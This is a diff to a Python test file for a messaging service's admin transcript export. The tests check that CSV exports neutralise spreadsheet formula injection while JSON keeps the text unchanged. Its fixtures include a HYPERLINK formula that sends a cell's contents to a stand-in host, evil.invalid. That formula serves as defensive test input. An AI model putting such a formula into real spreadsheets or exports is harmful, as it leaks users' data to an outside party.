@@ -5,14 +5,19 @@ and platform events with retry."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import re
 from typing import Any
 
 import pytest
+from sqlalchemy import update
 
 from concierge import admin
+from concierge.admin_api import _csv
+from messaging.db import get_session
+from messaging.models import Message
 from tasks.concierge_tasks import answer_question, process_event
 from tests.test_event_notifications import TRIP, event
 
@@ -159,6 +164,70 @@ def test_exports_stream_the_same_transcript_as_json_and_csv(
                       headers=admin_headers).status_code == 422
     missing = client.get("/v1/admin/transcripts/nope/export", headers=admin_headers)
     assert missing.status_code == 404 and missing.content_type == "application/problem+json"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
+FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+FORMULA_AUTHOR = "@admin"  # a token's sub is any text: the userId cell is a cell like the others
+
+
+def formula_transcript(app: Any, client: Any, auth: Any) -> str:
+    """A transcript whose messages each start with a character a spreadsheet reads as a formula, written by an
+    admin whose user id starts with one too. Text is trimmed when posted, so the tab and carriage return are
+    written into the stored messages afterwards."""
+    _booked(app, client, auth)
+    conversation = client.get("/v1/concierge", headers=auth("trav-1", "guest")).json["id"]
+    for text in FORMULAS:
+        posted = client.post(f"/v1/admin/transcripts/{conversation}/messages", json={"message": text},
+                             headers=auth(FORMULA_AUTHOR, "admin"))
+        assert posted.status_code == 201, posted.json
+        if posted.json["message"] != text:  # the trimmed ones
+            with app.app_context():
+                session = get_session()
+                session.execute(update(Message).where(Message.id == posted.json["id"]).values(message=text))
+                session.commit()
+    return str(conversation)
+
+
+def assert_csv_neutralised(raw: str, exact: list[dict[str, Any]]) -> None:
+    """Every formula cell of the CSV export ``raw`` starts with a single quote; the ids and times are as in the
+    JSON export ``exact``."""
+    assert '"\'=HYPERLINK(""http://evil.invalid/?""&A1,""x"")"' in raw  # prefixed, and quoted as csv does
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert [r["id"] for r in rows] == [m["id"] for m in exact]
+
+    def utc(value: str) -> dt.datetime:  # SQLite gives the times back without their (UTC) offset
+        return dt.datetime.fromisoformat(value).replace(tzinfo=None)
+
+    assert [utc(r["createdAt"]) for r in rows] == [utc(m["createdAt"]) for m in exact]
+    replies = [r for r in rows if r["userId"] == "'" + FORMULA_AUTHOR]
+    assert [r["message"] for r in replies] == ["'" + text for text in FORMULAS]
+    for row in rows:
+        for column in ("userId", "message", "eventId", "eventType", "intent"):
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_csv_cells_from_outside_are_neutralised_and_the_services_own_ids_kept() -> None:
+    """Decided per column: a message id starting with "-" (1 in 64 nanoids) is kept, a user id or text is not."""
+    message = {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.UTC),
+               "senderType": "concierge", "userId": "-user", "message": "-1",
+               "origin": {"kind": "event", "eventId": "+ev", "eventType": "@type", "questionMessageId": None,
+                          "intent": "=intent"}, "edits": []}
+    row = next(csv.DictReader(io.StringIO("".join(_csv([message], iter([]))), newline="")))
+    assert row == {"id": "-a1b2c3d4e5f6g7h8i9j0", "createdAt": "2026-12-01T09:30:00+00:00",
+                   "senderType": "concierge", "userId": "'-user", "message": "'-1", "originKind": "event",
+                   "eventId": "'+ev", "eventType": "'@type", "questionMessageId": "", "intent": "'=intent",
+                   "edits": "0"}
+
+
+def test_csv_exports_neutralise_formulas_and_json_keeps_the_text(app: Any, client: Any, auth: Any) -> None:
+    conversation, root = formula_transcript(app, client, auth), auth("root", "admin")
+    as_json = client.get(f"/v1/admin/transcripts/{conversation}/export?format=json", headers=root)
+    exact = json.loads(as_json.data)["messages"]
+    assert [m["message"] for m in exact if m["userId"] == FORMULA_AUTHOR] == FORMULAS
+    as_csv = client.get(f"/v1/admin/transcripts/{conversation}/export?format=csv", headers=root)
+    assert as_csv.status_code == 200
+    assert_csv_neutralised(as_csv.data.decode(), exact)
 
 
 def test_takeover_silences_the_bot_and_handback_restores_it(
